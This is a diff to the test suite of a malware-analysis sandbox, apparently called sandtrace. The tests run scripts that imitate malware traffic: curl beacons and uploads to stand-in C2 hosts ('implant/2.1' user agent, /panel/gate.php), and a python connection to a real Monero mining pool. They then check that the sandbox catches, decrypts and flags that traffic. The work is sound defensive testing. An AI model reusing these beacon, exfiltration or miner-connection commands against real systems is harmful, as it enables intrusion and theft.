@@ -94,6 +94,8 @@ test('DNS: the names a sample looks up are answered by the sandbox\'s sinkhole a
     writeFileSync(script, `#!/bin/sh
 getent ahostsv4 c2.example.test
 RES_OPTIONS=use-vc getent ahostsv4 over-tcp.example.test
+curl -sk -m 5 -A implant/2.1 -d id=7 -o /dev/null -w 'https: %{http_code}\\n' https://secure.example.test/api/beacon
+curl -s -m 5 -o /dev/null https://checked.example.test/ || echo 'checked: refused'
 python3 -c "
 import socket, urllib.request
 try: socket.create_connection(('gulf.moneroocean.stream', 443), timeout=3)
@@ -112,7 +114,7 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     const pool = a('gulf.moneroocean.stream');
     assert.ok(pool?.answer && pool.answer !== a('c2.example.test')?.answer, 'each name its own address');
     assert.ok(r.dns?.some((d) => d.name === 'gulf.moneroocean.stream' && d.type === 'AAAA' && d.answer === null), 'AAAA: no records');
-    const connect = r.network.find((n) => n.op === 'connect' && n.port === 443);
+    const connect = r.network.find((n) => n.op === 'connect' && n.port === 443 && n.address === pool.answer);
     assert.deepEqual(connect && { address: connect.address, domain: connect.domain, result: connect.result }, { address: pool.answer, domain: 'gulf.moneroocean.stream', result: 'EINPROGRESS' }, 'caught inside the namespace (python connects without blocking when it has a timeout)');
     // the HTTP request to the C2 name was caught in the namespace, answered 200, and is listed
     const gate = r.sessions?.find((c) => c.protocol === 'http');
@@ -127,6 +129,13 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.match(stratum?.output ?? '', /connection=\S*->203\.0\.113\.7:5000 .*"method":"login".* process=python3 /, JSON.stringify(r.findings.map((f) => f.output)));
     assert.deepEqual(stratum && [stratum.evidence[0]?.event, r.processes.find((p) => p.pid === stratum.pid)?.argv[0]], ['session', 'python3']);
     assert.ok(r.network.some((n) => n.op === 'connect' && n.address === '192.0.2.53' && n.port === 53), 'the resolver\'s own traffic is listed too');
+    // HTTPS: curl -k accepted the sandbox's certificate, so its request was read in the clear; curl without -k refused it
+    const tls = (name: string) => r.sessions?.find((c) => c.sni === name);
+    const secure = tls('secure.example.test');
+    assert.deepEqual(secure && [secure.protocol, secure.domain, secure.port, secure.http?.method, secure.http?.path, secure.http?.userAgent, secure.decrypted !== undefined], ['tls', 'secure.example.test', 443, 'POST', '/api/beacon', 'implant/2.1', true], JSON.stringify(r.sessions));
+    const checked = tls('checked.example.test');
+    assert.deepEqual(checked && [checked.protocol, checked.http, checked.decrypted], ['tls', undefined, undefined], JSON.stringify(r.sessions));
+    assert.match(r.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /host=secure\.example\.test uri=\/api\/beacon user_agent=implant\/2\.1 protocol=tls .*process=curl\)$/);
     // glibc's resolver told to ask over TCP (RES_OPTIONS=use-vc) is answered there too
     assert.match(a('over-tcp.example.test')?.answer ?? '', /^198\.1[89]\.\d+\.\d+$/, JSON.stringify(r.dns));
     assert.ok(r.network.some((n) => n.op === 'connect' && n.proto === 'tcp' && n.address === '192.0.2.53' && n.port === 53 && n.result === 'ok'), JSON.stringify(r.network));
@@ -137,7 +146,9 @@ print('gate:', urllib.request.urlopen('http://c2.example.test/gate.php?id=1', ti
     assert.equal(replayed.code, 0, replayed.stderr);
     const again = JSON.parse(readFileSync(join(t.path, 'replayed', 'report.json'), 'utf8')) as Report;
     assert.deepEqual([again.dns, again.sessions, again.network, again.findings.map((f) => [f.rule, f.output])], [r.dns, r.sessions, r.network, r.findings.map((f) => [f.rule, f.output])]);
-    assert.match(html, /Connections caught in the sandbox \(3\)[\s\S]*GET \/gate\.php\?id=1/);
+    assert.match(html, /Connections caught in the sandbox \(5\)[\s\S]*GET \/gate\.php\?id=1/);
+    assert.match(html, /POST \/api\/beacon · Host: secure\.example\.test · User-Agent: implant\/2\.1<\/span><div class="muted small">server name secure\.example\.test · decrypted \(the sample accepted the sandbox's certificate\)<\/div><\/td><td>\d+ <span class="muted small">\(\d+ in the clear\)/);
+    assert.match(html, /server name checked\.example\.test<\/span><div class="muted small">refused the sandbox's certificate: nothing decrypted/);
   } finally {
     t.cleanup();
   }
@@ -428,10 +439,11 @@ test('the CLI prints the verdict line and writes report.json, report.html and th
     const report = JSON.parse(readFileSync(join(t.path, 'report.json'), 'utf8')) as Report;
     assert.equal(report.schema, 'sandtrace.report');
     assert.ok(report.dropped.some((d) => d.path === '/etc/cron.d/update' && d.copy && existsSync(join(t.path, d.copy))));
-    // the upload to the panel: looked up at the sinkhole, caught, the request listed
+    // the upload to the panel over HTTPS: looked up at the sinkhole, caught, decrypted (curl -k), the request listed and judged
     const upload = report.sessions?.find((c) => c.domain === 'cdn-update.example.test');
-    assert.deepEqual(upload && [upload.port, upload.protocol, upload.http?.method, upload.http?.path, upload.http?.host],
-      [80, 'http', 'POST', '/panel/gate.php?id=devbox', 'cdn-update.example.test'], JSON.stringify(report.sessions));
+    assert.deepEqual(upload && [upload.port, upload.protocol, upload.sni, upload.http?.method, upload.http?.path, upload.http?.host, upload.decrypted !== undefined],
+      [443, 'tls', 'cdn-update.example.test', 'POST', '/panel/gate.php?id=devbox', 'cdn-update.example.test', true], JSON.stringify(report.sessions));
+    assert.match(report.findings.find((f) => f.rule === 'ST-EXF-002')?.output ?? '', /uri=\/panel\/gate\.php\?id=devbox .*protocol=tls .*process=curl\)$/);
   } finally {
     t.cleanup();
   }
